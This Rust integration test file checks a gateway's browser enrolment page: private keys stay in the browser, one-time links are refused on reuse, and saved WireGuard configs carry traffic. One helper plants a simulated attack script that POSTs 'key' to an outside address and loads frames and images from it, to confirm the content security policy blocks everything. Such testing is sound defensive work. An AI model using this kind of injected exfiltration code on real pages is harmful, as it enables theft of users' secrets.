//! The page behind a one-time link, in a real browser, over HTTPS, up to traffic by the file that
//! it saved.
//!
//! The browser tells all that the page asked the network for; beside it the gateway's memory and
//! files are looked through for the private key, in every form that it could have.

#![allow(clippy::print_stdout, reason = "what was looked through, with the result")]

use std::fs;
use std::path::Path;
use std::time::Duration;

use ringway_perf::process::{Launch, scratch};
use ringway_perf::programs::unique_interface;
use ringway_perf::wait::wait_for;
use ringway_perf::wg::KeyPair;
use ringway_tests::scan::{self, Needle};
use serde_json::{Value, json};

use super::browser::{Browser, Page};
use super::house::{House, Plan};
use crate::setup::{LATER, SOON, stock_client};

const ORIGIN: &str = "https://10.91.1.1:8443";

/// A gateway with HTTPS and a user; and the print of its key, by which a browser knows it.
fn house() -> (House, String) {
    let state = scratch().unwrap().join(unique_interface());
    fs::create_dir_all(&state).unwrap();
    let print = certificate(&state);
    let config = format!(
        "[api]\nlisten = [\"10.91.1.1:8443\"]\nurl = \"{ORIGIN}\"\n\
         certificate_file = \"cert.pem\"\nkey_file = \"key.pem\"\n"
    );
    let house = House::with(Plan { config, state: Some(state), ..Plan::default() });
    house.user("ada", json!({}));
    (house, print)
}

/// Makes a certificate and its key in a folder, `cert.pem` and `key.pem`, and says the print of its
/// key.
pub(crate) fn certificate(folder: &Path) -> String {
    let shell = |script: &str| {
        let launch = Launch::new("sh").args(["-ec", "cd \"$1\"; eval \"$2\"", "sh"]);
        launch.arg(folder).arg(script).run().unwrap()
    };
    shell(
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
         -keyout key.pem -out cert.pem -subj /CN=gateway -addext subjectAltName=IP:10.91.1.1",
    );
    let print = shell(
        "openssl x509 -in cert.pem -pubkey -noout | openssl pkey -pubin -outform der | \
         openssl dgst -sha256 -binary | base64",
    );
    print.trim().to_owned()
}

fn link(house: &House, device: &str) -> String {
    let form = json!({ "device_name": device });
    let made = house.api.post("/api/v1/users/ada/enrolments", &form);
    let link = made["link"].as_str().unwrap().to_owned();
    assert!(link.starts_with(&format!("{ORIGIN}/enrol#re_")), "{link}");
    link
}

const MADE: &str = "!document.getElementById('done').hidden";
const OFFERED: &str = "!document.getElementById('here').hidden";

fn shown(browser: &mut Browser, page: &Page) -> String {
    browser.value(page, "document.getElementById('say').textContent").as_str().unwrap().to_owned()
}

#[test]
fn privileged_a_browser_enrols_with_a_key_that_never_leaves_it_and_its_file_carries_traffic() {
    let (house, print) = house();
    let link = link(&house, "phone");
    let mut browser = Browser::start(&house.line.cli, &print);
    let page = browser.page();
    browser.open(&page, &link);
    browser.until(&page, OFFERED);
    assert_eq!(browser.value(&page, "location.href"), format!("{ORIGIN}/enrol"));
    browser.click(&page, "make");
    browser.until(&page, MADE);
    assert!(shown(&mut browser, &page).starts_with("Done."));
    browser.click(&page, "save");
    let (name, file) = browser.saved();
    let file = String::from_utf8(file).unwrap();
    assert_eq!(name, "ringway.conf");
    assert_eq!(browser.value(&page, "document.getElementById('file').value"), file);
    assert!(browser.complaints(&page).is_empty(), "{:#?}", browser.complaints(&page));

    let private = file.lines().find_map(|line| line.strip_prefix("PrivateKey = ")).unwrap();
    let keys = KeyPair { private: private.to_owned(), public: public_of(private) };
    let device = house.api.get("/api/v1/users/ada/devices/phone");
    assert_eq!(device["device"]["public_key"], keys.public.as_str(), "{device}");
    never_left(&mut browser, &page, &keys);
    nobody_here_has(&house, &keys);

    let second = browser.page();
    browser.open(&second, &link);
    browser.until(&second, OFFERED);
    browser.click(&second, "make");
    browser.until(&second, "document.getElementById('say').className === 'bad'");
    let refusal = shown(&mut browser, &second);
    println!("a second time: {refusal}");
    assert_eq!(browser.value(&second, MADE), false);
    let devices = house.api.get("/api/v1/users/ada/devices");
    assert_eq!(devices.as_array().unwrap().len(), 1, "{devices}");
    drop(browser);
    carries_traffic(&house, &file);
}

fn public_of(private: &str) -> String {
    let script = "printf '%s\\n' \"$1\" | wg pubkey";
    Launch::new("sh").args(["-c", script, "sh", private]).run().unwrap().trim().to_owned()
}

/// The page asked for itself and redeemed the link; the key was in neither, however written.
fn never_left(browser: &mut Browser, page: &Page, keys: &KeyPair) {
    let sent = browser.events(page, &["Network.requestWillBeSent"]);
    let asked: Vec<(&str, &str)> = sent
        .iter()
        .map(|one| &one["request"])
        .map(|one| (one["method"].as_str().unwrap(), one["url"].as_str().unwrap()))
        .collect();
    let (itself, redeem) = (format!("{ORIGIN}/enrol"), format!("{ORIGIN}/api/v1/enrol"));
    assert_eq!(asked, [("GET", itself.as_str()), ("POST", redeem.as_str())]);
    let body: Value =
        serde_json::from_str(sent[1]["request"]["postData"].as_str().unwrap()).unwrap();
    let mut names: Vec<&String> = body.as_object().unwrap().keys().collect();
    names.sort();
    assert_eq!(names, ["public_key", "secret"], "{body}");
    assert_eq!(body["public_key"], keys.public.as_str());
    let also = ["Network.requestWillBeSentExtraInfo", "Network.webSocketCreated"];
    let all = [sent, browser.events(page, &also)].concat();
    let all = Value::Array(all).to_string();
    for needle in needles(&keys.private) {
        let text = String::from_utf8_lossy(&needle.bytes);
        assert!(!all.contains(text.as_ref()), "{} in a request", needle.what);
    }
}

/// Nothing of the gateway has the private key; what looks finds the public one.
fn nobody_here_has(house: &House, keys: &KeyPair) {
    let pid = house.process.pid();
    let known = scan::memory(pid, &needles(&keys.public)).unwrap().0;
    assert!(!known.is_empty(), "the public key is in memory");
    let secret = needles(&keys.private);
    let (found, bytes) = scan::memory(pid, &secret).unwrap();
    println!("{bytes} bytes of memory, {} places with the public key", known.len());
    assert!(found.is_empty(), "{found:#?}");
    let found = scan::files(&[&house.state], &secret).unwrap();
    assert!(found.is_empty(), "{found:#?}");
    assert!(!(house.process.output() + &house.process.errors()).contains(&keys.private));
}

/// A key as text, as hexadecimal and as bytes.
fn needles(base64: &str) -> Vec<Needle> {
    let script = "printf %s \"$1\" | base64 -d | od -An -v -tx1 | tr -d ' \\n'";
    let hex = Launch::new("sh").args(["-c", script, "sh", base64]).run().unwrap();
    let byte = |at: usize| u8::from_str_radix(&hex[at..at + 2], 16).unwrap();
    let bytes: Vec<u8> = (0..hex.len()).step_by(2).map(byte).collect();
    assert_eq!(bytes.len(), 32);
    let for_urls = base64.replace('+', "-").replace('/', "_");
    let text = base64.trim_end_matches('=').to_owned();
    let spellings = [
        ("as text", text.into_bytes()),
        ("as text for addresses", for_urls.trim_end_matches('=').into()),
        ("as hexadecimal", hex.clone().into_bytes()),
        ("as capital hexadecimal", hex.to_uppercase().into_bytes()),
        ("as bytes", bytes),
    ];
    spellings.into_iter().map(|(what, bytes)| Needle { what: what.to_owned(), bytes }).collect()
}

/// `wg-quick` takes the file as the browser saved it.
fn carries_traffic(house: &House, file: &str) {
    house.grant("ada");
    let path = house.state.join(format!("{}.conf", unique_interface()));
    fs::write(&path, file).unwrap();
    quick(house, "up", &path);
    house.until_answered(0, LATER);
    let seen = || {
        let sessions = house.api.get("/api/v1/sessions?user=ada");
        sessions["items"][0]["device"] == "phone"
    };
    let seen = wait_for("the session of the phone", SOON, seen);
    quick(house, "down", &path);
    seen.unwrap();
    assert!(!house.answers(0), "without the tunnel nobody is reached");
}

fn quick(house: &House, verb: &str, path: &Path) {
    let program = stock_client().find().unwrap();
    let launch = house.line.cli.launch("wg-quick").arg(verb).arg(path);
    let launch = launch.env("WG_QUICK_USERSPACE_IMPLEMENTATION", &program.to_string_lossy());
    launch.output(Duration::from_secs(20)).unwrap();
}

/// As a browser behaves that has no X25519.
const WITHOUT: &str = "crypto.subtle.generateKey = () => \
                       Promise.reject(new DOMException('no such algorithm', 'NotSupportedError'))";

#[test]
fn privileged_a_browser_without_such_keys_takes_a_public_one_and_a_page_does_no_more_than_it_may() {
    let (house, print) = house();
    let mut browser = Browser::start(&house.line.cli, &print);
    let page = browser.page();
    browser.before(&page, WITHOUT);
    browser.open(&page, &link(&house, "old"));
    browser.until(&page, "!document.getElementById('hand').hidden");
    let keys = KeyPair::generate().unwrap();
    browser.click(&page, "key");
    browser.enter(&page, &format!(" {}", &keys.public[..43]));
    browser.click(&page, "send");
    browser.until(&page, "document.getElementById('say').className === 'bad'");
    let refusal = shown(&mut browser, &page);
    assert!(refusal.starts_with("a key is 44 characters"), "{refusal}");
    // A mistake does not use the link up.
    browser.click(&page, "key");
    browser.value(&page, "document.getElementById('key').select()");
    browser.enter(&page, &keys.public);
    browser.click(&page, "send");
    browser.until(&page, MADE);
    browser.click(&page, "save");
    let (_, file) = browser.saved();
    let file = String::from_utf8(file).unwrap();
    assert!(file.contains("\n# PrivateKey = ") && !file.contains("\nPrivateKey"), "{file}");
    let device = house.api.get("/api/v1/users/ada/devices/old");
    assert_eq!(device["device"]["public_key"], keys.public.as_str());

    let page = browser.page();
    let whole = link(&house, "half");
    browser.open(&page, &whole[..whole.len() - 9]);
    browser.until(&page, "document.getElementById('say').className === 'bad'");
    assert!(shown(&mut browser, &page).contains("not complete"));
    for id in ["here", "hand", "done"] {
        assert_eq!(browser.value(&page, &format!("document.getElementById({id:?}).hidden")), true);
    }
    is_held_by_its_policy(&mut browser, &page);
}

/// What somebody could plant in the page loads and runs nothing and sends nothing away.
fn is_held_by_its_policy(browser: &mut Browser, page: &Page) {
    const PLANTED: &str = "(async () => {
        const broken = [];
        addEventListener('securitypolicyviolation', (e) => broken.push(e.effectiveDirective));
        const plant = (kind, members) =>
            document.body.append(Object.assign(document.createElement(kind), members));
        plant('script', { textContent: 'window.ran = true' });
        plant('img', { src: 'https://10.91.2.2/picture' });
        plant('iframe', { src: 'https://10.91.2.2/frame' });
        plant('div', { innerHTML: '<b onclick=\"window.ran = true\">x</b>' });
        document.querySelector('b').click();
        const sent = await fetch('https://10.91.2.2/', { method: 'POST', body: 'key' })
            .then(() => true, () => false);
        try { eval('window.ran = true'); } catch { }
        while (broken.length < 6) await new Promise((go) => setTimeout(go, 5));
        return { broken: broken.sort(), ran: window.ran === true, sent };
    })()";
    let tried = browser.value(page, PLANTED);
    let broken =
        ["connect-src", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"];
    assert_eq!(tried, json!({ "broken": broken, "ran": false, "sent": false }));
    let sent = browser.events(page, &["Network.requestWillBeSentExtraInfo"]);
    let away = |one: &&Value| !one["headers"].to_string().contains("10.91.1.1:8443");
    assert!(sent.iter().find(away).is_none(), "{sent:#?}");
}
